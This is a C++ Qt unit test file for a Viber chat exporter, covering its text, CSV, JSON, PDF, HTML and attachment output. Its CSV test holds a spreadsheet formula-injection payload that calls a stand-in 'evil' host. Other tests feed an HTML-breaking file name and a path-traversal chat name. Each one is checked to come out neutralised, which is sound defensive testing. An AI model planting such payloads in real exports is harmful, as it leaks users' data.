#include "TestConfig.h"
#include "export/ExportMessagesHtml.h"
#include "export/MessageText.h"
#include "support/MessageFixtures.h"
#include "support/RecordingReporter.h"
#include "support/StoreFixtures.h"
#include "support/TestSupport.h"
#include "workers/ExportMessagesThread.h"
#include "workers/ExportViberCallsThread.h"
#include "workers/ExtractMediaFilesThread.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>

#include <sys/resource.h>

using namespace Qt::StringLiterals;
using testsupport::MessageFixture;
using Outcome = WorkerThread::Outcome;

namespace {

const QDateTime kDay1(QDate(2014, 1, 31), QTime(9, 30, 5));
const QDateTime kDay2(QDate(2014, 2, 1), QTime(23, 59, 0));

QString readText(const QString &path)
{
    return QString::fromUtf8(testsupport::readFile(path));
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QVERIFY(testsupport::writeFile(path, bytes));
}

// Every file below root, relative, sorted (folders have no hash).
QStringList treeOf(const QString &root)
{
    QStringList files;
    for (const QString &line : fixtures::filesBelow(root))
        if (!line.endsWith(u' '))
            files << line.section(u' ', 0, -2);
    return files;
}

// The text of each page of a PDF as a reader gets it (pdftotext), without direction marks.
QStringList pdfPageTexts(const QString &path)
{
    QProcess poppler;
    poppler.start(u"pdftotext"_s, {path, u"-"_s});
    poppler.waitForFinished(60000);
    QStringList pages = QString::fromUtf8(poppler.readAllStandardOutput())
                            .remove(QRegularExpression(u"[\u2066-\u2069]"_s))
                            .split(u'\f');
    pages.removeLast(); // what follows the last page's form feed
    return pages;
}

const QString kThere = u"already there"_s;

Outcome run(WorkerThread &worker, RecordingReporter *reporter = nullptr)
{
    RecordingReporter quiet;
    worker.setReporter(reporter ? reporter : &quiet);
    worker.start();
    worker.wait();
    return worker.outcome();
}

// Two one-to-one chats and a group: calls, a system notice, text over two
// lines, a picture with a hostile file name, an emoji, a right-to-left name.
struct Sample
{
    explicit Sample(const QString &folder)
    {
        ann = f.addPerson(u"Ann"_s, u"+111"_s);
        bob = f.addPerson(u"\u05D3\u05E0\u05D4"_s, u"+222"_s);
        withAnn = f.addChat(QString(), {ann});
        group = f.addChat(u"g1"_s, {ann, bob});
        group->name = u"Family"_s;
        f.addMessage(withAnn, ViberMsgTypeText, kDay1, true, u"line one\r\nline two"_s);
        f.addCall(f.addMessage(withAnn, ViberMsgTypeCall, kDay1.addSecs(60), false), ViberCallTypeMissed, 0);
        _ViberMsg *picture = f.addMessage(withAnn, ViberMsgTypePicture, kDay2, false, u"look \U0001F600"_s);
        const QString file = folder + u"/src/a\"<&#b.jpg"_s;
        writeFile(file, "jpeg bytes");
        f.addAttachment(picture, file, folder + u"/src/missing-preview.jpg"_s);
        _ViberMsg *hello = f.addMessage(group, ViberMsgTypeText, kDay1, false, u"say \"hi\", all"_s);
        hello->person = bob;
        f.addMessage(group, ViberMsgTypeSystem, kDay1.addSecs(5), false)->systemKind =
            ViberSystemKindMemberAdded;
        f.addMessage(nullptr, ViberMsgTypeText, kDay1, true, u"no chat"_s);
    }

    MessageFixture f;
    _ViberPerson *ann, *bob;
    _ViberChat *withAnn, *group;
};

} // namespace

class TestExports : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        MessageText::setPictureFolder(QStringLiteral(CHATWHARF_BINARY_DIR "/src"));
        // Times read in the user's locale: one with its own forms, whatever the machine's.
        QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedKingdom));
    }

    void textAndCsvRows_data()
    {
        QTest::addColumn<int>("format");
        // Regular expressions; the CSV rows double quotes and quote commas and line breaks, a lone
        // CR too; the text rows turn each line break into a space.
        QTest::addColumn<QStringList>("expectedLines");
        QTest::newRow("text")
            << int(ExportMessagesThread::Text)
            << QStringList{u"^Date {26}Flag     Name {36}Message$"_s,
                           // Chat by chat, each under its heading; a call names its party.
                           u"^Chat: Ann\\n.*line one line two\\n.*\\n.*\\[IMAGE\\].*\\n\\nChat: Family\\n"_s,
                           u"To       Ann\\(\\+111\\) {31}line one line two$"_s,
                           u"From     \u2068\u05D3\u05E0\u05D4\u2069\\(\\+222\\) {29}say \"hi\", all$"_s,
                           u"<System>"_s, u"<Call>   Ann\\(\\+111\\) {31}Missed Call"_s,
                           u"From     Ann\\(\\+111\\) {31}\\[IMAGE\\] look \U0001F600$"_s,
                           u"^Chat: My Notes\\n.*To       My Notes {32}note to self$"_s};
        QTest::newRow("csv")
            << int(ExportMessagesThread::Csv)
            << QStringList{
                   u"^date,send,person,number,content,chat,kind$"_s,
                   u"^2014-01-31 09:30:05,1,Ann,'\\+111,\"line one\r?$"_s, u"^line two\",Ann,text$"_s,
                   u"^2014-01-31 09:30:05,0,\u05D3\u05E0\u05D4,'\\+222,\"say \"\"hi\"\", all\",Family,text$"_s,
                   u",0,,,.*,Family,system$"_s, u",0,Ann,'\\+111,Missed Call,Ann,call$"_s,
                   u",0,Ann,'\\+111,\\[IMAGE\\] look \U0001F600,Ann,picture$"_s,
                   u"^2014-02-02 00:00:01,1,,,\"note\rto self\",My Notes,text$"_s,
                   // One's own message in a group: no sender to name, the chat tells where it went.
                   u"^2014-02-02 00:00:02,1,,,\"mine, in the group\",Family,text$"_s};
    }
    void textAndCsvRows()
    {
        QFETCH(int, format);
        QFETCH(QStringList, expectedLines);
        QTemporaryDir dir;
        Sample s(dir.path());
        _ViberMsg *const chatless = s.f.messages().last();
        // My Notes: a chat of the owner alone, without participants.
        _ViberChat *notes = s.f.addChat();
        writeExtraColumns(notes, {{u"ZSUBTYPE"_s, 5}});
        s.f.addMessage(notes, ViberMsgTypeText, kDay2.addSecs(61), true, u"note\rto self"_s);
        s.f.addMessage(s.group, ViberMsgTypeText, kDay2.addSecs(62), true, u"mine, in the group"_s);
        const QString out = dir.filePath(u"out.txt"_s);
        ExportMessagesThread worker(s.f.messages(), out, format);
        RecordingReporter reporter;
        QCOMPARE(run(worker, &reporter), Outcome::Succeeded);
        // The chat-less message is not counted.
        QCOMPARE(reporter.successes, QStringList{u"Successfully exported 7 messages."_s});
        const QString written = readText(out);
        for (const QString &pattern : std::as_const(expectedLines))
            QVERIFY2(written.contains(QRegularExpression(pattern, QRegularExpression::MultilineOption)),
                     qPrintable(pattern + u"\n"_s + written));
        QVERIFY(!written.contains(u"no chat"_s));

        // Nothing with a chat: success with 0 and no file at all.
        const QString none = dir.filePath(u"none.txt"_s);
        ExportMessagesThread empty({chatless}, none, format);
        QCOMPARE(run(empty), Outcome::Succeeded);
        QVERIFY(!QFileInfo::exists(none));
    }
    // A spreadsheet opening the CSV runs no formula from a name or a text; the other
    // formats keep the text as written.
    void csvCellsAreNoFormulas_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell");
        QTest::newRow("formula") << u"=HYPERLINK(\"http://evil/?\"&A1,\"Ann\")"_s
                                 << u"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"Ann\"\")\""_s;
        QTest::newRow("plus") << u"+1+2"_s << u"'+1+2"_s;
        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
        QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
        QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
        QTest::newRow("inside") << u"a=b-c"_s << u"a=b-c"_s;
        QTest::newRow("space first") << u" =1"_s << u" =1"_s;
    }
    void csvCellsAreNoFormulas()
    {
        QFETCH(QString, text);
        QFETCH(QString, cell);
        QTemporaryDir dir;
        MessageFixture f;
        _ViberPerson *sender = f.addPerson(text, u"+49"_s);
        f.addMessage(f.addChat(QString(), {sender}), ViberMsgTypeText, kDay1, false, text)->person = sender;
        const QString csv = dir.filePath(u"out.csv"_s), txt = dir.filePath(u"out.txt"_s),
                      json = dir.filePath(u"out.json"_s);
        for (const auto &[path, format] :
             {std::pair{csv, int(ExportMessagesThread::Csv)}, std::pair{txt, int(ExportMessagesThread::Text)},
              std::pair{json, int(ExportMessagesThread::Json)}}) {
            ExportMessagesThread worker(f.messages(), path, format);
            QCOMPARE(run(worker), Outcome::Succeeded);
        }
        QCOMPARE(readText(csv).section(u'\n', 1, -2),
                 u"2014-01-31 09:30:05,0,%1,'+49,%1,%1,text"_s.arg(cell));
        QVERIFY(readText(txt).contains(QString(text).replace(u'\r', u' ')));
        const QJsonArray chats = QJsonDocument::fromJson(testsupport::readFile(json)).array();
        const QJsonObject message = chats[0][u"messages"_s][0].toObject();
        QCOMPARE(message[u"text"_s].toString(), text);
        QCOMPARE(message[u"sender"_s][u"name"_s].toString(), text);
    }
    // Besides the sample's chats, one with Bob, long enough for two pages.
    void html()
    {
        QTemporaryDir dir;
        Sample s(dir.path());
        _ViberChat *chat = s.f.addChat(QString(), {s.bob});
        s.f.addAttachment(s.f.addMessage(chat, ViberMsgTypeSticker, kDay1, false), QString(),
                          dir.filePath(u"gone.png"_s))
            ->attId = u"77"_s;
        s.f.addTexts(chat, int(ExportMessagesHtml::kPageSize), kDay2);
        const QString out = dir.filePath(u"chats-html"_s);
        ExportMessagesThread worker(s.f.messages(), out, ExportMessagesThread::Html);
        QCOMPARE(run(worker), Outcome::Succeeded);
        QStringList names;
        for (const QString &file : worker.chatFiles())
            names << QFileInfo(file).fileName();
        QCOMPARE(names, (QStringList{u"Ann.html"_s, u"Family.html"_s, u"\u05D3\u05E0\u05D4.html"_s,
                                     u"\u05D3\u05E0\u05D4 - page 2.html"_s}));

        const QString page = readText(worker.chatFiles().first());
        // The hostile name is copied under a safe, percent-encoded name inside files/ and
        // cannot leave its attribute.
        const QStringList files = treeOf(out + u"/files"_s);
        QVERIFY2(files.contains(u"style.css"_s) && files.contains(u"a&#b.jpg"_s),
                 qPrintable(files.join(u' ')));
        QVERIFY(!page.contains(u"a\"<"_s));
        for (const QString &piece :
             {u"href=\"files/a%26%23b.jpg\" target=\"_blank\""_s, u"src=\"files/a%26%23b.jpg\""_s})
            QVERIFY2(page.contains(piece), qPrintable(piece));
        // A missing sticker shows its placeholder.
        QVERIFY(readText(worker.chatFiles()[2]).contains(u"<div class=\"missing\">[STICKER-77]</div>"_s));
    }
    void perChatNames()
    {
        // A chat's file is named by its title; labels that differ only in removed characters,
        // or that leave nothing, still give each chat a file of its own inside the folder.
        MessageFixture f;
        _ViberChat *a = f.addChat(QString(), {f.addPerson(u"Ann\u00A0"_s, u"+1"_s)});
        _ViberChat *b = f.addChat(QString(), {f.addPerson(u"Ann"_s, u"+2"_s)});
        _ViberChat *c = f.addChat(QString(), {f.addPerson(u"ANN"_s, u"+3"_s)});
        _ViberChat *dots = f.addChat(QString(), {f.addPerson(u"../.."_s, QString())});
        _ViberChat *nothing = f.addChat(QString(), {f.addPerson(u"/:*?"_s, QString())});
        _ViberChat *index = f.addChat(u"g2"_s, {f.addPerson(u"A"_s, u"+5"_s), f.addPerson(u"B"_s, u"+6"_s)});
        index->name = u"index"_s;
        for (_ViberChat *chat : {a, b, c, dots, nothing, index})
            f.addMessage(chat, ViberMsgTypeText, kDay1, true, u"x"_s);
        QTemporaryDir dir;
        for (const int format : {int(ExportMessagesThread::Pdf), int(ExportMessagesThread::Html)}) {
            const QString out = dir.filePath(u"out%1"_s.arg(format));
            ExportMessagesThread worker(f.messages(), out, format);
            QCOMPARE(run(worker), Outcome::Succeeded);
            QStringList names;
            for (const QString &path : worker.chatFiles()) {
                QCOMPARE(QFileInfo(path).absolutePath(), QDir(out).absolutePath());
                QVERIFY2(QFileInfo(path).size() > 0, qPrintable(path));
                names << QFileInfo(path).completeBaseName();
            }
            // The index page keeps its name.
            QCOMPARE(names,
                     (QStringList{u"Ann"_s, u"Ann (2)"_s, u"ANN (3)"_s, u"chat-%1"_s.arg(dots->id),
                                  u"chat-%1"_s.arg(nothing->id),
                                  format == ExportMessagesThread::Html ? u"index (2)"_s : u"index"_s}));
        }
    }
    // A PDF reads as its chat: a call with its party and time, every word of a long message.
    void pdfPages()
    {
        if (QStandardPaths::findExecutable(u"pdftotext"_s).isEmpty())
            QSKIP("poppler-utils is not installed");
        QTemporaryDir dir;
        Sample s(dir.path());
        s.f.addCall(s.f.addMessage(s.withAnn, ViberMsgTypeCall, kDay1.addSecs(90), true),
                    ViberCallTypeOutgoing, 125);
        s.f.addMessage(s.withAnn, ViberMsgTypeText, kDay1.addSecs(120), true, u"wide "_s.repeated(200));
        const QString out = dir.filePath(u"all.pdf"_s);
        ExportMessagesThread worker(s.f.messages(), out, ExportMessagesThread::Pdf);
        QCOMPARE(run(worker), Outcome::Succeeded);
        const QStringList pages = pdfPageTexts(out);
        // The call with its party and time.
        QVERIFY2(pages[0].contains(
                     QRegularExpression(u"Outgoing Call \\(2:05\\) \u00B7 Ann\\(\\+111\\)\\s+09:31"_s)),
                 qPrintable(pages[0]));
        // A message wider than the page is wrapped, not cut off at its edge.
        QCOMPARE(pages.join(u' ').count(u"wide"_s), 200);

        // A folder's files are written side by side: each holds its own chat's messages.
        MessageFixture f;
        QStringList expected;
        for (int c = 0; c < 7; ++c) {
            _ViberChat *chat = f.addChat(QString(), {f.addPerson(u"P%1"_s.arg(c), u"+7%1"_s.arg(c))});
            QStringList words;
            for (int m = 0; m < 3 + c % 3; ++m) {
                words << u"c%1m%2"_s.arg(c).arg(m);
                f.addMessage(chat, ViberMsgTypeText, kDay1.addSecs(c * 60 + m), m % 2, words.last());
            }
            expected << words.join(u' ');
        }
        ExportMessagesThread folder(f.messages(), dir.filePath(u"chats"_s), ExportMessagesThread::Pdf);
        RecordingReporter reporter;
        QCOMPARE(run(folder, &reporter), Outcome::Succeeded);
        QCOMPARE(reporter.percents.last(), 100);
        QStringList found;
        for (const QString &file : folder.chatFiles())
            found << pdfPageTexts(file)
                         .join(u' ')
                         .split(QRegularExpression(u"\\s+"_s))
                         .filter(QRegularExpression(u"^c\\d+m\\d+$"_s))
                         .join(u' ');
        QCOMPARE(found, expected);
    }
    // An export that fails (a full disk), is cancelled or finds something at its path it was
    // not told to replace leaves the user's files as they were and nothing of its own.
    void endsEarlyLeavingNothingOfItsOwn_data()
    {
        QTest::addColumn<int>("format");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("end");
        const std::pair<int, QString> targets[] = {
            {ExportMessagesThread::Text, u"out.txt"_s},  {ExportMessagesThread::Csv, u"out.csv"_s},
            {ExportMessagesThread::Json, u"out.json"_s}, {ExportMessagesThread::Json, u"out"_s},
            {ExportMessagesThread::Pdf, u"out"_s},       {ExportMessagesThread::Html, u"out"_s}};
        for (const auto &[format, name] : targets)
            for (const QString &end : {u"cancelled"_s, u"disk full"_s, kThere})
                QTest::addRow("%d %s, %s", format, qPrintable(name), qPrintable(end))
                    << format << name << end;
        QTest::newRow("unknown format") << 7 << u"out"_s << u"unknown format"_s;
    }
    void endsEarlyLeavingNothingOfItsOwn()
    {
        QFETCH(int, format);
        QFETCH(QString, name);
        QFETCH(QString, end);
        const bool cancel = end == u"cancelled"_s;
        QTemporaryDir dir;
        Sample s(dir.path());
        QList<_ViberMsg *> messages = s.f.messages();
        for (int i = 0; i < (end == u"cancelled"_s || end == u"disk full"_s ? 3000 : 0); ++i)
            messages << s.f.addMessage(s.group, ViberMsgTypeText, kDay2.addSecs(i), true, QString(200, u'x'));
        const QString target = dir.filePath(name);
        const bool folder = ExportMessagesThread::writesFolder(format, target);
        // The user's own file, where the export would write.
        const QString own = folder ? target + u"/index.html"_s : target;
        writeFile(own, "the user's own");
        const QStringList before = treeOf(dir.path());

        ExportMessagesThread worker(messages, target, format);
        worker.setReplaceExisting(end != kThere);
        RecordingReporter reporter;
        if (cancel)
            reporter.cancelWhen = [](const RecordingReporter &r) { return r.details.size() == 10; };
        // A file size limit stands for a full disk: writes beyond it fail.
        std::signal(SIGXFSZ, SIG_IGN);
        rlimit old;
        getrlimit(RLIMIT_FSIZE, &old);
        rlimit small = old;
        if (end == u"disk full"_s)
            small.rlim_cur = 32 * 1024;
        setrlimit(RLIMIT_FSIZE, &small);
        const Outcome outcome = run(worker, &reporter);
        setrlimit(RLIMIT_FSIZE, &old);

        QCOMPARE(outcome, cancel ? Outcome::Cancelled : Outcome::Failed);
        if (format == 7)
            QCOMPARE(reporter.errors, QStringList{u"There is no export format number 7."_s});
        else if (!cancel)
            QVERIFY2(reporter.errors.value(0).contains(QDir::toNativeSeparators(target) +
                                                       (end == kThere ? u" already"_s : QString())),
                     qPrintable(reporter.errors.value(0)));
        QCOMPARE(treeOf(dir.path()), before);
        QCOMPARE(readText(own), u"the user's own"_s);
        if (end != kThere)
            return;

        // Told to: a file is replaced; in a folder the user's other files stay.
        if (folder)
            writeFile(target + u"/mine.txt"_s, "mine");
        ExportMessagesThread forced(s.f.messages(), target, format);
        forced.setReplaceExisting(true);
        QCOMPARE(run(forced), Outcome::Succeeded);
        QCOMPARE(readText(own) == u"the user's own"_s, folder && format != ExportMessagesThread::Html);
        if (folder)
            QCOMPARE(readText(target + u"/mine.txt"_s), u"mine"_s);
    }
    void extraction()
    {
        QTemporaryDir dir;
        const QString src = dir.filePath(u"src/"_s);
        MessageFixture f;
        _ViberPerson *ann = f.addPerson(u"Ann"_s, u"+1"_s);
        _ViberChat *chat = f.addChat(QString(), {ann});
        // A file named as the store names it, with the name as its content.
        const auto add = [&](ViberMsgType type, int secs, const QString &name) {
            if (!name.isEmpty())
                writeFile(src + name, name.toUtf8());
            _ViberAtta *att = f.addAttachment(f.addMessage(chat, type, kDay1.addSecs(secs), false),
                                              src + (name.isEmpty() ? u"gone.mp4"_s : name), QString());
            att->fileName = name;
            return att;
        };
        add(ViberMsgTypePicture, 0, u"p1.jpg"_s);
        add(ViberMsgTypePicture, 0, u"p2.jpg"_s); // same second
        writeFile(src + u"v.jpg"_s, "v.jpg");
        add(ViberMsgTypeVideo, 1, QString())->previewPath = src + u"v.jpg"_s;
        add(ViberMsgTypeAudio, 2, u"voice.m4a"_s);
        add(ViberMsgTypeFile, 3, u"report.pdf"_s);
        _ViberMsg *gone = add(ViberMsgTypeSticker, 4, QString())->message; // not there
        // Too long for a file system with the time before it: shortened, keeping its extension.
        add(ViberMsgTypeFile, 5, QString(240, u'd') + u".pdf"_s);
        f.addMessage(chat, ViberMsgTypeText, kDay1, false, u"no attachment"_s);

        const QString target = dir.filePath(u"attachments"_s);
        ExtractMediaFilesThread worker(f.messages(), QDir(target));
        RecordingReporter reporter;
        QCOMPARE(run(worker, &reporter), Outcome::Succeeded);
        QCOMPARE(treeOf(target), (QStringList{u"atta_20140131-093005(1).jpg"_s, u"atta_20140131-093005.jpg"_s,
                                              u"atta_20140131-093006.jpg"_s, u"atta_20140131-093007.m4a"_s,
                                              u"atta_20140131-093008_report.pdf"_s,
                                              u"atta_20140131-093010_"_s + QString(60, u'd') + u".pdf"_s}));
        // The later copy takes the numbered name; a video without its file gives its preview.
        QCOMPARE(readText(target + u"/atta_20140131-093005(1).jpg"_s) +
                     readText(target + u"/atta_20140131-093006.jpg"_s),
                 u"p2.jpgv.jpg"_s);
        QCOMPARE(reporter.successes,
                 QStringList{u"Extracted 6 attachments to %1; 1 more was not in the source."_s.arg(
                     QDir::toNativeSeparators(target))});

        // Nothing but missing files is no success, and leaves no folder.
        const QString none = dir.filePath(u"none"_s);
        ExtractMediaFilesThread missing({gone, f.messages().last()}, QDir(none));
        QCOMPARE(run(missing), Outcome::Failed);
        QVERIFY(!QFileInfo::exists(none));

        // The call log: newest first, a call without a person "Unknown".
        _ViberCall *call =
            f.addCall(f.addMessage(chat, ViberMsgTypeCall, kDay1, true), ViberCallTypeOutgoing, 125);
        call->person = ann;
        ExportViberCallsThread log(
            {call, f.addCall(f.addMessage(chat, ViberMsgTypeCall, kDay2, false), ViberCallTypeIncoming, 59)},
            dir.filePath(u"calls.txt"_s));
        QCOMPARE(run(log), Outcome::Succeeded);
        const QString calls = readText(dir.filePath(u"calls.txt"_s)).simplified();
        QVERIFY2(
            calls.contains(QRegularExpression(u"^number Flag .* Unknown Incoming 01/02/2014 23:59:00 0:59 "
                                              u"Ann\\(\\+1\\) Outgoing 31/01/2014 09:30:05 2:05$"_s)),
            qPrintable(calls));
    }
};

QTEST_MAIN(TestExports)
#include "tst_exports.moc"
